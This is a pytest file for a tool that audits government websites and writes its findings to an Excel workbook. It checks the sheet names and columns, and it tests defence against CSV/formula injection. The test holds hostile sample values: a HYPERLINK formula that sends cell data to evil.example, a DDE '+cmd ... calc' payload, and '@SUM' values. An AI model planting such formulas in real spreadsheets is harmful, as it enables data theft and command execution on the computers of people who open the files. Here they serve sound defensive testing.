"""``--format xlsx``: the notice's annexes as a workbook, opened again with openpyxl."""

from __future__ import annotations

import datetime as dt
import io
import json
import os
from pathlib import Path

import openpyxl
from click.testing import CliRunner
from rulekit_national.annex import ACCOUNT_HEAD, FINDING_HEAD, SITE_HEAD
from rulekit_national.notice_xlsx import XlsxReporter

from rulekit.cli import main
from rulekit.model import Finding, Target
from rulekit.report import Checked, Report, RunSummary, Verdict

ROOT = Path(__file__).resolve().parents[2]


def _values(ws) -> list[list[str]]:
    return [[c.value for c in row] for row in ws.iter_rows()]


def test_demo_workbook_has_the_annex_sheets_and_columns(tmp_path):
    out = tmp_path / "通报附件.xlsx"
    cwd = os.getcwd()
    os.chdir(ROOT)
    try:
        result = CliRunner().invoke(main, ["run", "configs/demo.yaml", "--no-cache",
                                           "--no-history", "--report", f"xlsx:{out}",
                                           "--report", f"json:{tmp_path / 'r.json'}"])
    finally:
        os.chdir(cwd)
    assert result.exit_code == 1, result.stderr
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["汇总", "不合格政府网站名单", "不合格政务新媒体名单", "不确定",
                               "政府网站问题清单", "政务新媒体问题清单", "网站留言问题清单"]
    summary = _values(book["汇总"])
    assert summary[0] == ["类型", "检查数", "合格", "不合格", "不确定", "合格率"]
    assert summary[1] == ["政府网站", "2", "0", "2", "0", "0.00%"]
    assert summary[2] == ["政务新媒体账号", "28", "20", "7", "1", "74.07%"]
    sites = _values(book["不合格政府网站名单"])
    assert tuple(sites[0]) == SITE_HEAD and sites[2][1:] == ["“示例县城关镇人民政府”网", "首页不更新"]
    accounts = _values(book["不合格政务新媒体名单"])
    assert tuple(accounts[0]) == ACCOUNT_HEAD and len(accounts) == 8
    assert ["1", "今日头条", "示例公安", "监测时间点前2周内无更新", "示例县公安局", "宜春市"] in accounts
    site_findings = _values(book["政府网站问题清单"])
    assert tuple(site_findings[0]) == FINDING_HEAD
    assert any(row[2] == "privacy.id-number" and "360999********" in row[3]
               for row in site_findings[1:])
    total = sum(len(_values(book[name])) - 1 for name in book.sheetnames
                if name.endswith("问题清单"))
    doc = json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))
    assert total == len(doc["findings"])  # every finding, in one area sheet or the other


def test_a_value_from_a_page_is_never_a_formula():
    summary = RunSummary(as_of=dt.date(2022, 5, 31), as_of_given=True, config=None,
                         version="0.1.0")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    finding = Finding(rule="links.broken", severity="error", message=evil,
                      evidence="+cmd|' /C calc'!A0\x07", target=Target(
                          kind="page", site="@SUM(1+1)", url="-2+3"))
    report = Report(findings=[finding], summary=summary,
                    checked=[Checked(kind="site", name="@SUM(1+1)")],
                    verdicts=[Verdict("site", "@SUM(1+1)", "fail", "不合格",
                                      problems=["=1+1"])])
    out = io.BytesIO()
    XlsxReporter().write(report, out)
    book = openpyxl.load_workbook(io.BytesIO(out.getvalue()))
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in cells} >= {evil, "-2+3", "=1+1"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    evidence = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row
                if isinstance(c.value, str) and c.value.startswith("+cmd")]
    assert evidence == ["+cmd|' /C calc'!A0\\x07"]  # the control character shown, not lost
